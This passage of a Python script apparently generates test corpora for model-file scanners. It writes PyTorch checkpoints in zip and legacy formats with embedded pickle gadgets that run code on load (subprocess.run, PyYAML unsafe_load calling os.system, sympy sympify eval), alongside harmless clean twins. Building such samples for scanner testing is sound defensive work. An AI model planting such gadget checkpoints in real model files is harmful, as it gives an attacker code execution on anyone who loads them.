    G('subprocess_run', 'subprocess', 'run', 'picklescan tests malicious (subprocess.run(["ls", "-l"]))',
      'runs a program', True, P['subprocess_run']),
    G('yaml_unsafe_load', 'yaml', 'unsafe_load',
      'CVE-2017-18342 / CVE-2020-1747 (PyYAML !!python/object/apply runs any callable)',
      'a YAML document whose tag calls os.system', True, P['yaml']),
    G('sympy_sympify', 'sympy.core.sympify', 'sympify',
      'sympy/sympy#10805 and #24990 (huntr report: sympify evals strings)', 'eval of the parsed string', True,
      P['sympify']),
]

BY_NAME = {g.name: g for g in GADGETS}
assert len(BY_NAME) == len(GADGETS), 'gadget names must be unique'


# ---------------------------------------------------------------------------
# Checkpoints
# ---------------------------------------------------------------------------

def tensor(proto, legacy, key='0', numel=4):
    """torch._utils._rebuild_tensor_v2 over a float32 storage, as torch.save
    writes it: persistent id ('storage', torch.FloatStorage, key, 'cpu', numel)
    plus the view metadata None in the legacy format."""
    pid = [text('storage'), ma.global_op('torch', 'FloatStorage'), text(key), text('cpu'), integer(numel)]
    if legacy:
        pid.append(ma.NONE)
    return (ma.global_op('torch._utils', '_rebuild_tensor_v2')
            + ma.tuple_of([ma.tuple_of(pid) + ma.BINPERSID, integer(0), ma.tuple_of([integer(numel)]),
                           ma.tuple_of([integer(1)]), false(proto), ma.ordered_dict()])
            + ma.REDUCE)


def object_pickle(gadget, legacy, payload=None):
    """{'state_dict': OrderedDict(w=tensor), 'payload': <gadget call>} (or the
    pickle bytes `payload` in its place)."""
    p = gadget.proto
    head = ma.proto(p) if p >= 2 else b''
    state = ma.ordered_dict() + ma.MARK + text('w') + tensor(p, legacy) + ma.SETITEMS
    value = gadget.payload() if payload is None else payload
    return head + ma.EMPTY_DICT + ma.MARK + text('state_dict') + state + text('payload') + value + ma.SETITEMS + ma.STOP


def write_zip(gadget, path, payload=None):
    """A torch zip checkpoint (torch >= 1.6) at `path`."""
    ma.checkpoint(path, object_pickle(gadget, False, payload), [('0', FOUR_FLOATS)])
    return path


def legacy_bytes(gadget, payload=None):
    """The legacy stream file (torch < 1.6, or _use_new_zipfile_serialization=False)."""
    sys_info = {'protocol_version': LEGACY_PROTOCOL_VERSION, 'little_endian': True,
                'type_sizes': {'short': 2, 'int': 4, 'long': 4}}
    return (pickle.dumps(LEGACY_MAGIC, protocol=2) + pickle.dumps(LEGACY_PROTOCOL_VERSION, protocol=2)
            + pickle.dumps(sys_info, protocol=2) + object_pickle(gadget, True, payload)
            + pickle.dumps(['0'], protocol=2) + struct.pack('<q', len(FOUR_FLOATS) // 4) + FOUR_FLOATS)


FORMATS = ('zip', 'legacy')


def write(gadget, fmt, path, payload=None):
    """Write `gadget` as format `fmt` ('zip' or 'legacy') to `path`; with
    `payload` (pickle bytes of a value), that value replaces the gadget call:
    the file's clean twin, in the same protocol and layout."""
    if fmt == 'zip':
        return write_zip(gadget, path, payload)
    if fmt == 'legacy':
        with open(path, 'wb') as f:
            f.write(legacy_bytes(gadget, payload))
        return path
    raise ValueError(f'unknown format {fmt!r}')


def clean_payload():
    """A harmless value for the clean twins: the int 7."""
    return integer(7)


def main(argv):
    if argv[:1] == ['--list']:
        for g in GADGETS:
            print(f'{g.name:38} {g.dotted:60} {"gadget list" if g.listed else "call rule":11} {g.source}')
        return 0
    if not argv:
        print(__doc__.split('\n\n')[1], file=sys.stderr)
        return 2
    out_dir, names = argv[0], argv[1:]
    os.makedirs(out_dir, exist_ok=True)
    for g in GADGETS:
        if names and g.name not in names:
            continue
        write(g, 'zip', os.path.join(out_dir, f'{g.name}.pt'))
        write(g, 'legacy', os.path.join(out_dir, f'{g.name}.legacy.pt'))
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv[1:]))
